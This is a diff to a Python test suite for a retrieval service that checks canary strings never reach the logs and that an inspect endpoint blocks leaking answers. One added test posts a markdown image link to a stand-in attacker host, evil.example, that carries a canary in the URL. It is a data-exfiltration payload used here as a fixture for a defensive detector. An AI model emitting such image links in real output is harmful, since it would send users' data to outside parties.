@@ -114,6 +114,14 @@ def test_when_full_run_at_debug_then_no_canary_in_any_log(
                 "answer": f"{ANSWER_CANARY}: the {DOC_CANARY} ritual, call 555-867-5309.",
                 "retrieval_id": rid})
             assert r.status_code == 200
+            # Inspect's other paths: pseudonyms, an exfiltration image, a quoted passage.
+            r = c.post("/v1/retrieve", headers=headers, json={
+                "query": f"{QUERY_CANARY} {DOC_CANARY} ritual", "pseudonymize": True})
+            assert r.status_code == 200
+            r = c.post("/v1/inspect", headers=headers, json={
+                "answer": f"{ANSWER_CANARY} ![x](https://evil.example/{ANSWER_CANARY}.png) "
+                          f"{DOC_TEXT}", "retrieval_id": r.json()["retrieval_id"]})
+            assert r.status_code == 200 and r.json()["verdict"] == "block"
             assert c.post("/v1/retrieve", headers={"Authorization": "Bearer " + token[:-4]},
                           json={"query": QUERY_CANARY}).status_code == 401
             assert c.post("/v1/retrieve", headers=headers,
